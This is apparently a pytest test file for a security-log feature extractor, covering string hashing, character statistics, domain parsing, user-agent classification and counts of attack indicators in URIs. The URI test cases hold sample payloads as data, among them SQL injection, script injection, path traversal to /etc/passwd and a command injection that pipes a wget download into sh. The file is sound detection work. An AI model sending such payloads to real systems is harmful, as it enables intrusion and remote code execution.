from __future__ import annotations

import itertools
import math
import re
from collections import Counter
from urllib.parse import quote, quote_plus

import numpy as np
import polars as pl
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from enricher.features import NameModel, TextColumn, text_of
from enricher.features.agents import AGENT_FEATURES, agent_statistics
from enricher.features.arithmetic import decay, log1p, signed_log
from enricher.features.arrow import string_column
from enricher.features.lexical import STATISTICS, character_statistics
from enricher.features.names import name_features, name_statistics, top_level_domains
from enricher.features.names_kernel import name_parts
from enricher.features.strings import NULL_HASH, combine, hash_strings
from enricher.features.uris import URI_FEATURES, uri_statistics
from enricher.features.vocabulary import PORT_CLASSES, TOP_LEVEL, look_up, port_classes

strings = st.lists(st.one_of(st.none(), st.text(max_size=30), st.sampled_from(["a" * 600, "x"])))


def series(values: list[str | None]) -> pl.Series:
    return pl.Series("text", values, dtype=pl.String())


def back(text: TextColumn) -> list[bytes | None]:
    data = text.data.tobytes()
    return [
        None if code < 0 else data[text.offsets[code] : text.offsets[code + 1]]
        for code in text.codes
    ]


@settings(max_examples=80, deadline=None)
@given(strings, st.integers(0, 3))
def test_strings_come_out_of_arrow_as_they_went_in_each_distinct_one_once(
    values: list[str | None], skip: int
) -> None:
    text = text_of(series(values)[skip:])
    expected = [None if v is None else v.encode()[:512] for v in values[skip:]]
    assert back(text) == expected
    assert len(text.offsets) - 1 == len(set(expected) - {None})


def test_a_column_of_several_chunks_is_one() -> None:
    joined = pl.concat([series(["a", None]), series(["b" * 40])], rechunk=False)
    assert back(text_of(joined)) == [b"a", None, b"b" * 40]


def test_a_column_that_holds_no_strings_is_refused() -> None:
    with pytest.raises(TypeError, match="holds Int64, not strings"):
        text_of(pl.Series("n", [1]))


@given(strings)
@settings(max_examples=50, deadline=None)
def test_equal_strings_have_equal_hashes_and_others_do_not(values: list[str | None]) -> None:
    hashes = hash_strings(string_column(series(values)))
    for value, found in zip(values, hashes, strict=True):
        assert (found == NULL_HASH) == (value is None)
    assert len(set(hashes.tolist())) == len(set(values))


def test_hashes_are_the_same_on_every_machine() -> None:
    found = hash_strings(string_column(series(["", "192.168.1.1", "a longer string, of 33 bytes"])))
    assert [hex(value) for value in found] == HASHES
    assert combine(found[:1], found[1:2])[0] != combine(found[1:2], found[:1])[0]


HASHES = ["0xd0bd7ff386ad0729", "0x567b45cfd1dfaede", "0xc9f80cbea78fb1f1"]


@given(st.floats(0, 1e300), st.floats(0, 690))
@settings(max_examples=300, deadline=None)
def test_logarithm_and_decay_are_those_of_the_library(amount: float, passed: float) -> None:
    assert log1p(amount) == pytest.approx(math.log1p(amount), abs=1e-8)
    assert decay(passed) == pytest.approx(math.exp(-passed), rel=1e-8)


def test_the_signed_logarithm_keeps_sign_and_absence() -> None:
    found = signed_log(np.array([0.0, 9.0, -9.0, np.nan]))
    np.testing.assert_allclose(found, [0, math.log(10), -math.log(10), np.nan], rtol=1e-6)


def plain_statistics(value: bytes) -> list[float]:
    """What the kernel says, written so that it can be read."""
    n = len(value)
    if n == 0:
        return [0.0] * len(STATISTICS)
    letters = re.findall(rb"[A-Za-z]", value)
    vowels = re.findall(rb"[AEIOUaeiou]", value)

    def share(pattern: bytes) -> float:
        return len(re.findall(pattern, value)) / n

    def longest(pattern: bytes) -> float:
        return math.log1p(max((len(run) for run in re.findall(pattern, value)), default=0))

    coarse = re.sub(rb"[^0-9A-Za-z]", b".", value)
    coarse = re.sub(rb"[A-Za-z]", b"a", re.sub(rb"[0-9]", b"0", coarse))
    return [
        math.log1p(n),
        -sum(c / n * math.log2(c / n) for c in Counter(value).values()),
        share(rb"[0-9]"),
        len(letters) / n,
        share(rb"[A-Z]"),
        share(rb"[!-/:-@\[-`{-~]"),
        share(rb"[0-9a-fA-F]"),
        share(rb"[\x80-\xff]"),
        share(rb"[\x00-\x20\x7f]"),
        len(vowels) / len(letters) if letters else 0.0,
        longest(rb"[0-9]+"),
        longest(rb"[b-df-hj-np-tv-zB-DF-HJ-NP-TV-Z]+"),
        math.log1p(len(set(value))),
        sum(a != b for a, b in itertools.pairwise(coarse)) / n,
    ]


@given(st.lists(st.text(max_size=60), min_size=1, max_size=5))
@settings(max_examples=150, deadline=None)
def test_character_statistics_are_those_of_plain_python(values: list[str]) -> None:
    text = text_of(series(list(values)))
    found = character_statistics(text.data, text.offsets[:-1], text.offsets[1:])[text.codes]
    expected = [plain_statistics(value.encode()) for value in values]
    np.testing.assert_allclose(found, expected, rtol=1e-4, atol=1e-5)


@pytest.mark.parametrize(
    ("name", "zone", "core", "tld"),
    [
        ("www.example.com", "example.com", "example", "com"),
        ("example.com.", "example.com", "example", "com"),
        ("a.b.example.co.uk", "example.co.uk", "example", "uk"),
        ("example.org:8080", "example.org", "example", "org"),
        ("t.co", "t.co", "t", "co"),
        ("localhost", "localhost", "localhost", None),
        ("", "", "", None),
        (".", "", "", None),
    ],
)
def test_the_parts_of_a_name_are_found(name: str, zone: str, core: str, tld: str | None) -> None:
    column = string_column(series([name]))
    begin, core_end, end = (int(p[0]) for p in name_parts(column.addresses, column.lengths))
    assert name[begin:end] == zone
    assert name[begin:core_end] == core
    index = top_level_domains(text_of(series([name])))[0]
    assert index == (1 if tld is None else 2 + TOP_LEVEL.index(tld))


@given(st.lists(st.text(alphabet="ab.-:9\u00e9", max_size=20), min_size=1))
@settings(max_examples=80, deadline=None)
def test_label_counts_are_those_of_plain_python(values: list[str]) -> None:
    text = text_of(series(list(values)))
    table = name_statistics(text, None)[text.codes]
    names = [feature.name for feature in name_features("q", "x")]
    column = string_column(series(list(values)))
    ends = name_parts(column.addresses, column.lengths)[2]
    for row, value, end in zip(table, values, ends, strict=True):
        labels = value.encode()[:end].split(b".") if end else []
        longest = max((len(label) for label in labels), default=0)
        assert row[names.index("q_labels")] == pytest.approx(math.log1p(len(labels)), abs=1e-5)
        assert row[names.index("q_longest_label")] == pytest.approx(math.log1p(longest), abs=1e-5)
    assert not np.isinf(table).any()


def uri(value: str) -> dict[str, float]:
    row = uri_statistics(text_of(series([value])))[0]
    return {f.name: float(v) for f, v in zip(URI_FEATURES, row, strict=True)}


def amount(value: str, name: str) -> int:
    return round(math.expm1(uri(value)[name]))


@pytest.mark.parametrize(
    ("value", "feature", "expected"),
    [
        ("/a/b/c.php?x=1&y=2", "uri_depth", 3),
        ("/a/b/c.php?x=1&y=2", "uri_parameters", 2),
        ("/a/b/c.php?x=1&y=2", "uri_query_length", 7),
        ("/a?q=%27%20or%201%3D1--%20-", "uri_quotes", 1),
        ("/a?q=%27%20or%201%3D1--%20-", "uri_query_sql_words", 1),
        ("/a?q=%27%20or%201%3D1--%20-", "uri_comparisons", 1),
        ("/a?q=%27%20or%201%3D1--%20-", "uri_comments", 1),
        ("/a?q=1+UNION/**/SELECT+NULL", "uri_sql_words", 3),
        ("/a?q=%2527", "uri_double_encodings", 1),
        ("/a?q=%2527", "uri_quotes", 1),
        ("/a?q=%3Cscript%3Ealert(1)%3C/script%3E", "uri_angles", 4),
        ("/a?q=%3Cscript%3Ealert(1)%3C/script%3E", "uri_script_words", 3),
        ("/../../etc/passwd", "uri_traversals", 2),
        ("/../../etc/passwd", "uri_file_words", 2),
        ("/cgi-bin/x;wget+http://x/y|sh", "uri_shell_words", 2),
        ("/x%00.jpg", "uri_controls", 1),
        ("/?%", "uri_encodings", 0),
        ("/?%zz%1", "uri_encodings", 0),
        ("", "uri_words", 0),
    ],
)
def test_what_a_uri_carries_is_counted_after_decoding(
    value: str, feature: str, expected: int
) -> None:
    assert amount(value, feature) == expected


@given(st.text(max_size=40))
@settings(max_examples=100, deadline=None)
def test_encoding_a_value_hides_none_of_its_words_or_marks(value: str) -> None:
    once = uri("/p?v=" + quote(value, safe=""))
    for other in (quote_plus(value, safe=""), quote(quote(value, safe=""), safe="")):
        found = uri("/p?v=" + other)
        for feature in ("uri_quotes", "uri_angles", "uri_spaces", "uri_query_sql_words"):
            assert found[feature] == once[feature]


@given(st.text(max_size=700))
@settings(max_examples=60, deadline=None)
def test_any_text_in_place_of_a_uri_or_agent_gives_finite_numbers(value: str) -> None:
    text = text_of(series([value]))
    assert np.isfinite(uri_statistics(text)).all()
    assert np.isfinite(agent_statistics(text)).all()


def test_scanners_and_browsers_are_told_apart_by_their_words() -> None:
    agents = ["Mozilla/5.0 (X11; Linux x86_64) Firefox/140.0", "sqlmap/1.7#stable", "curl/8.5.0"]
    table = np.expm1(agent_statistics(text_of(series(list(agents)))))
    names = [feature.name for feature in AGENT_FEATURES]
    assert table[0, names.index("agent_browser_words")] > 2
    assert table[1, names.index("agent_scanner_words")].round() == 1
    assert table[2, names.index("agent_tool_words")].round() == 1


def test_the_model_of_names_finds_random_letters_unusual_and_survives_saving() -> None:
    words = ["weather", "station", "mail", "online", "support", "network", "service", "portal"]
    names = [f"{a}{b}.com" for a in words for b in words]
    model = NameModel.fit(text_of(series(list(names))))
    usual, unusual, nothing = model.score(
        text_of(series(["mailstation.com", "xq7zkvwpjq.com", ""]))
    )
    assert usual > unusual + 1.0
    assert math.isnan(nothing)
    again = NameModel.from_arrays(model.to_arrays())
    assert np.array_equal(again.table, model.table)
    with pytest.raises(ValueError, match="no model of names"):
        NameModel.from_arrays({"name_model.table": np.zeros((2, 2))})


def test_each_row_of_the_model_of_names_is_a_distribution() -> None:
    model = NameModel.fit(text_of(series(["example.com", "test-1.org"])))
    np.testing.assert_allclose(np.exp(model.table).sum(axis=2), 1.0, rtol=1e-4)


def test_absent_unusual_and_known_values_have_their_places() -> None:
    hashes = hash_strings(string_column(series([None, "tcp", "sctp", "", "udp"])))
    assert look_up(hashes, ("tcp", "udp")).tolist() == [0, 2, 1, 1, 3]


def test_ports_become_classes_and_never_numbers() -> None:
    ports = np.array([np.nan, 80, 443, 22, 1000, 20001, 50123, 65535, 70000, -1])
    found = port_classes(ports)
    names = ["absent", "other", *PORT_CLASSES]
    assert [names[i] for i in found] == [
        "absent", "web", "web", "login", "well_known", "registered", "ephemeral", "ephemeral",
        "other", "other",
    ]  # fmt: skip
